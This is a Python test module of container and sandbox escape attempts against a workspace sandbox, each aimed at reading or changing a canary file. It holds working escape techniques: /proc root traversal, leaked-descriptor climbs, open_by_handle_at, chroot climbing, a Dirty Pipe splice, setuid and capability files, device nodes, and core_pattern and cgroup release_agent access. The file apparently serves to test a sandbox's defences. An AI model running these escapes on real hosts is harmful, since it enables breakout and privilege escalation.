"""Attacks on files: out of the view by any path, past read-only, and special files left for the host.
The canary is a file of the host beside the workspace, owned by the same user and in no profile."""

import os, shutil, stat, struct, ctypes
from attack import *


@attack("secret")
def canary_by_path():
    """Escape list 1: the plainest attack of all."""
    shown(CANARY)


@attack("changed")
def canary_written_by_path():
    """Escape list 1."""
    put(CANARY)


@attack("secret")
def canary_by_proc_root():
    """Escape list 1: /proc/*/root and /proc/*/cwd lead into other roots."""
    pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(VICTIM)]
    each([lambda p=p, k=k: shown(f"/proc/{p}/{k}{CANARY}") for p in pids for k in ("root", "cwd/../../../../../../..")])


@attack("secret")
def canary_by_dots():
    """CVE-2024-21626's cousin: up from every folder there is a descriptor for."""
    top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    up = "../" * 12 + CANARY[1:]
    each([lambda f=f: sh_open(f, up) for f in list(range(0, 64)) + [top, os.open(".", os.O_RDONLY)]])
    each([lambda: shown("../out/canary"), lambda: shown(up)])


def sh_open(folder, path):
    fd = os.open(path, os.O_RDONLY, dir_fd=folder)
    os.write(1, os.read(fd, 4096))


@attack("secret", stage="fd7")
def inherited_descriptor():
    """CVE-2024-21626, escape list 33: a descriptor the runtime forgot to close."""
    each([lambda f=f: os.write(1, os.pread(f, 4096, 0)) for f in range(3, 256)])


@attack("secret", stage="folder9")
def inherited_folder():
    """CVE-2024-21626: the same with a folder; up and out."""
    each([lambda f=f: sh_open(f, "canary") for f in range(3, 256)])


@attack("secret")
def symlink_to_canary():
    """Escape list 2."""
    os.symlink(CANARY, "link")
    shown("link")


@attack("changed")
def symlink_written_through():
    """Escape list 2."""
    os.symlink(OUT, "folder")
    put("folder/canary")


@attack("secret")
def hardlink_to_canary():
    """Escape list 2."""
    os.link(CANARY, "hard")
    shown("hard")


@attack("moved")
def workspace_renamed():
    """Escape list 2: the workspace itself, moved away from under the host."""
    os.rename(WORK, WORK + ".away")


@attack("moved", stage="write-parent")
def workspace_renamed_from_above():
    """Own: the profile also lets the parent be written, so the workspace is a folder in it like any other."""
    os.rename(WORK, WORK + ".away")
    os.mkdir(WORK)


@attack("protected", stage="write-parent")
def workspace_replaced_from_above():
    """Own: then its protected names are planted in the one that took its place."""
    os.rename(WORK, WORK + ".away")
    os.mkdir(WORK)
    put(WORK + "/.envrc")


@attack("secret", control="root")
def open_by_handle():
    """Escape list 9, the shocker of 2014: the root folder of a file system has a well-known handle."""
    mount = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for inode in (2, 128, 256, 1):
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
        try:
            root = call(304, mount, handle, os.O_RDONLY)
        except OSError as error:
            print(error, file=sys.stderr)
            continue
        each([lambda: sh_open(root, CANARY[1:])])


@attack("secret", control="root")
def chroot_and_climb():
    """The classic: a chroot below the working folder does not hold it."""
    fd = os.open("/", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    shown(CANARY)


@attack("changed-shown")
def read_only_written():
    """Escape list 10: a folder shown read-only, by every way there is to change a file."""
    each([
        lambda: put(SHOWN + "/data"),
        lambda: os.truncate(SHOWN + "/data", 0),
        lambda: os.rename(SHOWN + "/data", SHOWN + "/other"),
        lambda: os.unlink(SHOWN + "/data"),
        lambda: put(SHOWN + "/new"),
        lambda: put(f"/proc/self/fd/{os.open(SHOWN + '/data', os.O_RDONLY)}"),
        lambda: os.link(SHOWN + "/data", "hard") or put("hard"),
        lambda: os.ftruncate(os.open(SHOWN + "/data", os.O_RDONLY | os.O_TRUNC), 0),
    ])


@attack("changed-shown")
def read_only_metadata():
    """Escape list 10: the same for what is said about it."""
    path = SHOWN + "/data"
    each([
        lambda: os.chmod(path, 0o777),
        lambda: os.utime(path, (1, 1)),
        lambda: os.setxattr(path, "user.mark", b"1"),
        lambda: os.chmod(os.open(path, os.O_RDONLY), 0o777),
    ])


@attack("changed-shown")
def read_only_mapped():
    """Own: a private mapping made shared, a reopened descriptor, a splice into the page cache (CVE-2022-0847)."""
    import mmap
    fd = os.open(SHOWN + "/data", os.O_RDONLY)
    def dirty_pipe():
        r, w = os.pipe()
        for _ in range(16):
            os.write(w, b"x" * 4096)
            os.read(r, 4096)
        os.splice(fd, w, 1, offset_src=0)
        os.write(w, TOKEN.encode())
    def mapped():
        mmap.mmap(os.open(SHOWN + "/data", os.O_RDWR), 0)[0:4] = b"mark"
    each([dirty_pipe, mapped])


@attack("arrived")
def read_only_socket():
    """Own: a folder shown read-only holds a daemon's socket (ssh-agent, docker, gpg); talking to it is no reading."""
    import socket
    s = socket.socket(socket.AF_UNIX)
    s.connect(SHOWN + "/daemon.sock")
    s.sendall(TOKEN.encode())
    s.recv(1)


@attack("arrived")
def read_only_fifo():
    """Own: the same with a fifo, whose writing needs no writable mount."""
    fd = os.open(SHOWN + "/daemon.fifo", os.O_WRONLY | os.O_NONBLOCK)
    os.write(fd, TOKEN.encode())
    import time
    time.sleep(0.2)


@attack("secret", stage="others-file")
def file_of_another_user():
    """Own: a private file of somebody else in the workspace, where root's workspace is shown shifted."""
    shown("theirs")


@attack("secret", stage="others-file", mode="Overlay")
def lower_file_of_another_user():
    """CVE-2023-2640: an overlay copies up what the caller could not read."""
    each([lambda: shown("theirs"), lambda: os.chmod("theirs", 0o644) or shown("theirs"),
          lambda: os.rename("theirs", "mine") or shown("mine"), lambda: os.link("theirs", "mine2") or shown("mine2")])


@attack("workspace-changed", mode="Overlay")
def lower_written():
    """Own: an overlay's lower side, by every way to reach its files."""
    each([lambda: put("file"), lambda: os.unlink("file"), lambda: put("new"), lambda: os.mkdir("folder"),
          lambda: os.chmod(".", 0o777), lambda: put("/tmp/.lower/file"), lambda: put("/proc/self/cwd/file")])


@attack("workspace-changed", mode="ReadOnly")
def read_only_workspace_written():
    """A workspace given for reading."""
    each([lambda: put("file"), lambda: os.unlink("file"), lambda: put("new"), lambda: os.mkdir("folder"),
          lambda: os.chmod("file", 0o777), lambda: put("/proc/self/cwd/file"),
          lambda: os.utime("file", (1, 1)), lambda: os.setxattr("file", "user.mark", b"1")])


@attack("secret", stage="gate", mode="ReadOnly")
def gates_folder_read_only():
    """Escape list 15: the gate's own folder holds tokens; a workspace that is only read still does not show it."""
    each([lambda: shown(".bailiwick/secret"), lambda: shown("./.bailiwick/../.bailiwick/secret")])


@attack("secret", stage="gate", mode="Overlay")
def gates_folder_overlay():
    """Escape list 15, with an overlay above, by renaming and copying up too."""
    each([lambda: shown(".bailiwick/secret"), lambda: os.rename(".bailiwick", "b") or shown("b/secret"),
          lambda: os.rename(".bailiwick/secret", "s") or shown("s")])


@attack("secret", stage="gate")
def gates_folder():
    """Escape list 15."""
    each([lambda: shown(".bailiwick/secret"), lambda: os.rename(".bailiwick", "b") or shown("b/secret"),
          lambda: os.link(".bailiwick/secret", "s") or shown("s"),
          lambda: sh("find . -name secret -exec cat {} +")])


@attack("secret", stage="gate-link", mode="ReadOnly")
def gates_folder_through_a_link():
    """Own: `.bailiwick` is a symbolic link to a folder of the workspace, so the name is hidden and the folder is not."""
    each([lambda: shown(".bailiwick/secret"), lambda: shown("config/secret")])


@attack("secret", stage="hidden")
def hidden_folder():
    """Own: a folder the profile hides, in the workspace: read, moved, linked, copied from, uncovered."""
    each([lambda: shown("private/secret"), lambda: os.rename("private", "p") or shown("p/secret"),
          lambda: os.link("private/secret", "s") or shown("s"), lambda: sh("tar c . | strings; grep -r canary .")])


@attack("secret", stage="hidden", mode="Overlay")
def hidden_folder_under_overlay():
    """Own: the same with an overlay above."""
    hidden_folder()


@attack("secret", stage="hidden")
def hidden_folder_shown_elsewhere():
    """Own: a folder the profile hides, in a folder that the profile shows."""
    shown(SHOWN + "/private/secret")


@attack("odd")
def set_id_by_chmod():
    """Escape list 6: a set-user-id file waits in the workspace for somebody of the host."""
    put("a")
    each([lambda: os.chmod("a", 0o4755), lambda: os.chmod("a", 0o2755),
          lambda: call(452, -100, text("a"), 0o6755, 0), lambda: call(91, os.open("a", os.O_RDONLY), 0o4755),
          lambda: call(90, text("a"), 0o4755 | 1 << 33), lambda: os.chmod(".", 0o2755)])


@attack("odd")
def set_id_by_open():
    """Escape list 6, as the file is made."""
    os.umask(0)
    def temporary():
        fd = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o4755)
        call(265, -100, text(f"/proc/self/fd/{fd}"), -100, text("t"), 0x400)
    each([lambda: os.open("o", os.O_CREAT | os.O_WRONLY, 0o4755), temporary,
          lambda: call(85, text("c"), 0o4755), lambda: call(2, text("u"), os.O_CREAT | os.O_WRONLY, 0o6755),
          lambda: os.mknod("n", 0o4755 | stat.S_IFREG), lambda: os.mknod("f", 0o4755 | stat.S_IFIFO),
          lambda: call(259, -100, text("z"), 0o4755, 0)])


@attack("odd")
def set_id_by_openat2():
    """Escape list 6, with the mode behind a pointer."""
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0))
    call(437, -100, text("p"), how, 24)


@attack("odd")
def set_id_by_programs():
    """Escape list 6: cp, install and tar keep modes."""
    sh("umask 0; cp /bin/true t; install -m 4755 /bin/true i; chmod u+s t; perl -e 'chmod 04755, \"t\"';"
       "printf 'import tarfile,io\\nt=tarfile.open(\"x.tar\",\"w\")\\ni=tarfile.TarInfo(\"s\");i.mode=0o4755\\nt.addfile(i)\\nt.close()'"
       " | /usr/bin/python3 -; tar -xpf x.tar")


@attack("odd")
def set_id_by_mkdir():
    """Own: a set-group-id folder gives its group to all that is made in it."""
    os.umask(0)
    each([lambda: os.mkdir("g", 0o2777), lambda: os.chmod("g", 0o2777)])


@attack("odd-content", stage="suid")
def set_id_rewritten_by_mapping():
    """Own: writing clears the bit of a set-user-id file that is there already; storing through a mapping does not."""
    import mmap
    fd = os.open("suid", os.O_RDWR)
    mapped = mmap.mmap(fd, 0)
    mapped[0:len(TOKEN)] = TOKEN.encode()
    mapped.flush()


@attack("odd", control="root")
def device_nodes():
    """Escape list 6: a disk, memory, and the console as files."""
    made = [("d", stat.S_IFBLK, 252, 0), ("m", stat.S_IFCHR, 1, 1), ("n", stat.S_IFCHR, 1, 3)]
    each([lambda d=d: os.mknod(d[0], d[1] | 0o666, os.makedev(d[2], d[3])) for d in made])


@attack("odd")
def whiteout_nodes():
    """Own: a whiteout needs no privilege (Linux 5.8), and hides a file from whoever mounts or applies an overlay."""
    os.symlink("x", "victim")
    each([lambda: os.mknod("w", stat.S_IFCHR, 0), lambda: call(316, -100, text("victim"), -100, text("moved"), 4),
          lambda: call(133, text("w2"), stat.S_IFCHR | 0o600 | 1 << 16, 0)])


@attack("odd", control="root")
def file_capabilities():
    """Escape list 6: capabilities in an extended attribute."""
    put("c")
    # Revision 2: cap_setuid, permitted and effective.
    os.setxattr("c", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))


@attack("odd", control="root")
def trusted_attributes():
    """Own: trusted.overlay.* leads an overlay mounted by root elsewhere."""
    put("t")
    each([lambda n=n: os.setxattr("t", n, b"y") for n in ("trusted.overlay.opaque", "trusted.overlay.redirect")])


@attack("odd-upper", stage="", mode="Overlay")
def overlay_attributes():
    """Own: user.overlay.* set from inside must not become what the overlay itself believes."""
    os.makedirs("folder", exist_ok=True)
    put("plain")
    each([lambda: os.setxattr("folder", "user.overlay.redirect", b"/outside"),
          lambda: os.setxattr("plain", "user.overlay.metacopy", b""),
          lambda: os.setxattr("plain", "user.overlay.whiteout", b"y")])


@attack("proved")
def devices_opened():
    """Escape list 14: disks, memory, kvm, tun, fuse, vsock, consoles."""
    skip = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "fd", "stdin", "stdout", "stderr", "pts", "shm"}
    def look(name):
        path = "/dev/" + name
        mode = os.lstat(path).st_mode
        if stat.S_ISBLK(mode) or stat.S_ISCHR(mode):
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
            proved()
    names = ("vda", "mem", "kmsg", "kvm", "fuse", "net/tun", "vsock", "console", "tty0", "loop-control", "vhost-vsock")
    each([lambda n=n: look(n) for n in [*names, *os.listdir("/dev")] if n not in skip])


@attack("proved")
def sys_seen():
    """Escape list 11: /sys names hardware, drivers and control groups."""
    if os.listdir("/sys"):
        proved()


@attack("proved", control="root")
def kernel_settings_opened():
    """Escape list 11: core_pattern and its kin run programs as root; opened for writing, and left as they are."""
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
             "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/proc/sys/kernel/ns_last_pid",
             "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/drop_caches", "/proc/sys/user/max_user_namespaces",
             "/proc/kcore", "/proc/kmsg", "/proc/mem", "/proc/1/oom_score_adj", "/proc/acpi", "/proc/bus/pci"]
    def look(path):
        os.close(os.open(path, os.O_WRONLY))
        proved()
    prefixes = ["", f"/proc/{TARGET}/root", "/proc/self/root", f"/proc/self/task/{os.getpid()}/root"]
    each([lambda p=p, q=q: look(p + q) for p in prefixes for q in paths])


@attack("proved", control="root")
def core_pattern_rewritten():
    """bubblewrap, codex and srt run by root let this happen: the same value is written back."""
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        value = file.read()
        file.seek(0)
        file.write(value)
    proved()


@attack("proved", control="root")
def control_groups():
    """CVE-2022-0492: release_agent, and any group at all."""
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in ("release_agent", "cgroup.procs"):
            if name in files:
                each([lambda: os.close(os.open(folder + "/" + name, os.O_WRONLY)) or proved()])
                return
    sh("mkdir -p /tmp/cg && mount -t cgroup -o memory none /tmp/cg && echo PROVED-" + TOKEN)


@attack("proved")
def runtime_by_its_own_link():
    """CVE-2019-5736: the runtime's own binary through /proc/PID/exe."""
    if open(f"/proc/{TARGET}/exe", "rb").read(4) == b"\x7fELF":
        proved()


@attack("odd-content", mode="Overlay", stage="suid")
def set_id_copied_up():
    """CVE-2023-0386's kin: a set-user-id file of the lower side, copied up, then rewritten through a mapping."""
    set_id_rewritten_by_mapping()
